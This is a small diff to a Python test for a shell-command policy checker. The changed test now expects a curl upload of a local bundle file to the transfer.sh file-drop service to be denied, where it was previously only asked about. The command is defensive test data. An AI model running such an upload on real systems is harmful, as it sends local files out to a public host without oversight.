@@ -114,4 +114,4 @@ def test_everyday_neighbours_of_the_routes_stay_free(verdict: Judge, command: st
 
 def test_uploads_with_joined_short_options_reach_the_file_drop_rule(verdict: Judge) -> None:
     judged = verdict("curl -sT /tmp/p.bundle https://transfer.sh/p.bundle")
-    assert (judged.decision, judged.rule) == ("ask", "upload-to-file-drop")
+    assert (judged.decision, judged.rule) == ("deny", "upload-to-file-drop")
